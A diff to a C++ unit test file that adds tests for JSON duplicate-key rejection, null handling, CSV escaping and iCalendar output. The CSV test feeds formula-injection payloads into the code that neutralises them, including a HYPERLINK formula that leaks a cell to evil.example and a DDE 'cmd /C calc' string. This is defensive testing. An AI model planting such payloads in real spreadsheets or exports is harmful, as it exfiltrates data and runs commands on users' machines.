@@ -2,6 +2,7 @@
 
 #include <set>
 
+#include "platform/common/csv.hpp"
 #include "platform/common/ical.hpp"
 #include "platform/common/ids.hpp"
 #include "platform/common/json.hpp"
@@ -104,8 +105,39 @@ TEST(InputReader, ReadsValidInputAndTrims) {
   EXPECT_EQ(in.Integer("tier", Presence::kRequired, 1, 3), 2);
   EXPECT_EQ(in.Bool("ok", Presence::kRequired), false);
   EXPECT_TRUE(in.IsNull("note"));
-  EXPECT_FALSE(in.String("note", Presence::kOptional, 10));
+  EXPECT_FALSE(in.String("note", Presence::kNullable, 10));
   EXPECT_TRUE(in.Finish().empty());
+}
+
+TEST(ParseJsonObject, RefusesARepeatedKeyAtAnyDepth) {
+  for (const char* bad :
+       {R"({"active":false,"active":true})", R"({"a":1,"b":2,"a":1})", R"({"x":{"k":1,"k":2}})",
+        R"({"x":[{"k":1},{"k":1,"k":1}]})", R"({"ab":1,"ab":2})"}) {
+    auto r = ParseJsonObject(bad);
+    ASSERT_FALSE(r.ok()) << bad;
+    EXPECT_EQ(r.error().code, ErrorCode::kMalformed) << bad;
+    EXPECT_NE(r.error().detail.find("repeats the key"), std::string::npos) << bad;
+  }
+  // The same key in different objects, or as a value, is no repetition.
+  EXPECT_TRUE(ParseJsonObject(R"({"k":{"k":1},"j":[{"k":1},{"k":2}],"s":"k"})").ok());
+  EXPECT_EQ(RepeatedKey(R"({"x":{"a":1},"y":{"a":2,"a":3}})"), "a");
+  EXPECT_EQ(RepeatedKey(R"({"x":{"a":1},"a":2})"), std::nullopt);
+}
+
+TEST(InputReader, NullIsRefusedWhereAFieldCannotBeCleared) {
+  auto body = ParseJsonObject(R"({"active":null,"website":null,"name":null,"due_on":null})");
+  InputReader in(*body);
+  EXPECT_FALSE(in.Bool("active", Presence::kOptional));
+  EXPECT_FALSE(in.String("website", Presence::kNullable, 100));
+  EXPECT_FALSE(in.String("name", Presence::kRequired, 100));
+  in.PermitNull("due_on");
+  EXPECT_FALSE(in.Date("due_on", Presence::kOptional));
+  const auto errors = in.Finish();
+  ASSERT_EQ(errors.size(), 2u);
+  EXPECT_EQ(errors[0].field, "active");
+  EXPECT_EQ(errors[0].message, "must not be null");
+  EXPECT_EQ(errors[1].field, "name");
+  EXPECT_EQ(errors[1].message, "is required");
 }
 
 TEST(InputReader, LengthIsCountedInCharactersNotBytes) {
@@ -125,6 +157,55 @@ TEST(InputReader, RejectsControlCharactersAndWrongTypes) {
   EXPECT_EQ(in.Finish().size(), 3u);
 }
 
+TEST(Csv, NeutralisesWhatASpreadsheetWouldRunAsAFormula) {
+  EXPECT_EQ(csv::Neutralise(R"(=HYPERLINK("http://evil.example/?x="&A1,"Click"))"),
+            R"('=HYPERLINK("http://evil.example/?x="&A1,"Click"))");
+  EXPECT_EQ(csv::Neutralise("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+  EXPECT_EQ(csv::Neutralise("-2+3"), "'-2+3");
+  EXPECT_EQ(csv::Neutralise("@SUM(A1)"), "'@SUM(A1)");
+  EXPECT_EQ(csv::Neutralise("\t=1"), "'\t=1");
+  EXPECT_EQ(csv::Neutralise("\r=1"), "'\r=1");
+  EXPECT_EQ(csv::Neutralise("   =1"), "'   =1");
+  for (const char* plain : {"", "Phase 2 go", "a=b", "2026-01-05", "Dana: accept", "'quoted"}) {
+    EXPECT_EQ(csv::Neutralise(plain), plain);
+  }
+  EXPECT_EQ(csv::Field("a,b"), "\"a,b\"");
+  EXPECT_EQ(csv::Field("say \"hi\""), "\"say \"\"hi\"\"\"");
+  EXPECT_EQ(csv::Field("=1,2"), "\"'=1,2\"");
+}
+
+TEST(Csv, ReadsWhatItWritesAndRefusesBrokenText) {
+  const std::vector<std::vector<std::string>> table = {{"title", "notes", "empty"},
+                                                       {"a,b", "line one\nline \"two\"", ""},
+                                                       {"=1+1", "東京", "x\r\ny"}};
+  csv::Writer w;
+  for (const auto& row : table) w.Row(row);
+  auto read = csv::Read(w.Take());
+  ASSERT_TRUE(read.ok()) << read.error().detail;
+  ASSERT_EQ(read->size(), 3u);
+  EXPECT_EQ((*read)[1], table[1]);
+  EXPECT_EQ((*read)[2][0], "'=1+1");  // neutralised on the way out, as typed otherwise
+  EXPECT_EQ((*read)[2][1], "東京");
+  EXPECT_EQ((*read)[2][2], "x\r\ny");
+  // LF endings, a byte-order mark and a last line without an ending.
+  auto lf = csv::Read(
+      "\xEF\xBB\xBF"
+      "a,b\n1,2");
+  ASSERT_TRUE(lf.ok());
+  EXPECT_EQ(*lf, (csv::Rows{{"a", "b"}, {"1", "2"}}));
+  for (const char* bad : {"a,\"open\n", "\"x\"y,1\n", "a\"b,1\n", "\xff,1\n"}) {
+    auto r = csv::Read(bad);
+    ASSERT_FALSE(r.ok()) << bad;
+    EXPECT_EQ(r.error().code, ErrorCode::kMalformed);
+    EXPECT_NE(r.error().detail.find("line"), std::string::npos) << r.error().detail;
+  }
+  csv::ReadLimits small;
+  small.max_rows = 1;
+  EXPECT_FALSE(csv::Read("a\nb\n", small).ok());
+  small = {};
+  small.max_fields = 2;
+  EXPECT_FALSE(csv::Read("a,b,c\n", small).ok());
+}
 
 TEST(ICalendar, EscapesTextAndFoldsLongLinesWithoutSplittingCharacters) {
   EXPECT_EQ(ical::EscapeText("a,b;c\\d\r\ne\nf"), "a\\,b\\;c\\\\d\\ne\\nf");
@@ -152,16 +233,29 @@ TEST(ICalendar, EscapesTextAndFoldsLongLinesWithoutSplittingCharacters) {
 }
 
 TEST(ICalendar, WritesTimedAndAllDayEventsWithCrlf) {
-  ical::Event meeting{"m1@northstar", "2026-12-01T15:00:00Z", "2026-12-01T16:30:00Z",
-                      std::nullopt,   "JSC, Q4",               "Agenda",
-                      "Basel",        "https://example.org/m", false,
+  ical::Event meeting{"m1@northstar",
+                      "2026-12-01T15:00:00Z",
+                      "2026-12-01T16:30:00Z",
+                      std::nullopt,
+                      "JSC, Q4",
+                      "Agenda",
+                      "Basel",
+                      "https://example.org/m",
+                      false,
                       "2026-11-20T10:00:00.000Z"};
-  ical::Event due{"o1@northstar", "", "", "2027-01-15", "Report due", "", "", "", true,
+  ical::Event due{"o1@northstar",
+                  "",
+                  "",
+                  "2027-01-15",
+                  "Report due",
+                  "",
+                  "",
+                  "",
+                  true,
                   "2026-11-20T10:00:00.000Z"};
   const std::string text = ical::Calendar("Northstar", {meeting, due});
   EXPECT_NE(text.find("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"), std::string::npos);
-  EXPECT_NE(text.find("DTSTART:20261201T150000Z\r\nDTEND:20261201T163000Z\r\n"),
-            std::string::npos);
+  EXPECT_NE(text.find("DTSTART:20261201T150000Z\r\nDTEND:20261201T163000Z\r\n"), std::string::npos);
   EXPECT_NE(text.find("SUMMARY:JSC\\, Q4\r\n"), std::string::npos);
   EXPECT_NE(text.find("DTSTART;VALUE=DATE:20270115\r\n"), std::string::npos);
   EXPECT_NE(text.find("STATUS:CANCELLED\r\n"), std::string::npos);
